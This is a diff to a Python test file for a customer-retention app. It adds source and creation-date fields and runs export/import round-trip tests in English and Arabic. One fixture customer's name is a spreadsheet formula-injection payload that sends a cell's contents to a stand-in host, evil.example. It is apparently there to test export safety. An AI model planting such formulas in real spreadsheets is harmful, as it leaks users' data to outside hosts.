@@ -5,22 +5,32 @@ from __future__ import annotations
 import csv
 import hashlib
 import io
-from datetime import date
+from datetime import date, datetime, timezone
 from decimal import Decimal
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 
-from retention_desktop.customers import CustomerDraft, add_customer, archive_customer, customer_drafts, search_customers
+from retention_cli.language import start_command_language
+from retention_desktop.clock import local_date, shop_zone
+from retention_desktop.customers import (
+    CustomerDraft,
+    add_customer,
+    add_customers,
+    archive_customer,
+    customer_details,
+    customer_drafts,
+    search_customers,
+)
 from retention_desktop.db import Database, open_database
 from retention_desktop.demo import fill_demo_book
 from retention_desktop.exporting import OneTablePerCsv, Table, UnknownFormat, export_book
 from retention_desktop.files import FolderMissing, IsAFolder
-from retention_desktop.i18n import set_translator
+from retention_desktop.i18n import set_translator, set_translator_factory
 from retention_desktop.import_files import read_file
 from retention_desktop.importing import Duplicates, guess_mapping, import_customers, preview_import
-from retention_desktop.kinds import CustomerKind, Gender
+from retention_desktop.kinds import CustomerKind, Gender, Source
 from retention_desktop.progress import Cancelled, Progress
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -29,9 +39,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 @pytest.fixture
 def book(db: Database) -> Database:
     """Customers with every field a customer can have, one of each awkward kind."""
-    add_customer(
+    add_customers(
         db,
-        CustomerDraft(
+        [CustomerDraft(
             "أحمد بن سعيد",
             phones=("055 123 4567", "011 234 5678"),
             email="ahmed@example.com",
@@ -41,9 +51,14 @@ def book(db: Database) -> Database:
             gender=Gender.MALE,
             tags=("VIP", "جملة"),
             notes="يحب القهوة\nويتصل مساءً",
-        ),
+            source=Source.SOCIAL_MEDIA,
+        )],
+        created_at=[datetime(2019, 3, 15, 6, 30, tzinfo=timezone.utc)],  # a customer for years
     )
-    add_customer(db, CustomerDraft("فاطمة", phones=("+44 20 7946 0958",), gender=Gender.FEMALE, birthday=date(1896, 1, 2)))
+    add_customer(
+        db,
+        CustomerDraft("فاطمة", phones=("+44 20 7946 0958",), gender=Gender.FEMALE, birthday=date(1896, 1, 2), source=Source.REFERRAL),
+    )
     add_customer(db, CustomerDraft("شركة الأفق", kind=CustomerKind.BUSINESS, notes="-5 على كل فاتورة"))
     add_customer(db, CustomerDraft(FORMULA, phones=("0559998888",)))
     archived = add_customer(db, CustomerDraft("عميل مؤرشف", phones=("0557776666",)))
@@ -52,11 +67,16 @@ def book(db: Database) -> Database:
 
 
 def drafts(db: Database) -> list[tuple[object, ...]]:
+    """What the book says of each customer that an export can carry: every field, how they found
+    the shop and the day they came."""
+    ids = search_customers(db, "") + search_customers(db, "", archived=True)
     with db.reading() as connection:
-        found = customer_drafts(connection, search_customers(db, "") + search_customers(db, "", archived=True))
+        found = customer_drafts(connection, ids)
+    zone = shop_zone(db)
+    came = {i: local_date(customer_details(db, i).created_at, zone) for i in ids}
     return sorted(
-        (d.full_name, d.phones, d.email, d.address, d.area, d.birthday, d.gender, d.kind, tuple(sorted(d.tags)), d.notes)
-        for d in found.values()
+        (d.full_name, d.phones, d.email, d.address, d.area, d.birthday, d.gender, d.kind, tuple(sorted(d.tags)), d.notes, d.source, came[i])
+        for i, d in found.items()
     )
 
 
@@ -64,10 +84,17 @@ def digest(path: Path) -> str:
     return hashlib.sha256(path.read_bytes()).hexdigest()
 
 
+@pytest.mark.parametrize("language", ["en", "ar"])
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
-def test_export_then_import_into_an_empty_book_gives_the_same_customers(book: Database, tmp_path: Path, suffix: str) -> None:
+def test_export_then_import_into_an_empty_book_gives_the_same_customers(book: Database, tmp_path: Path, suffix: str, language: str) -> None:
+    """In either language's words (the headings and the sources as the export writes them)."""
     path = tmp_path / f"customers{suffix}"
-    export_book(book, path, [Table.CUSTOMERS])
+    start_command_language(language)
+    try:
+        export_book(book, path, [Table.CUSTOMERS])
+    finally:
+        set_translator(None)
+        set_translator_factory(None)
     empty = open_database(tmp_path / "empty.sqlite3")
     try:
         source = read_file(path)
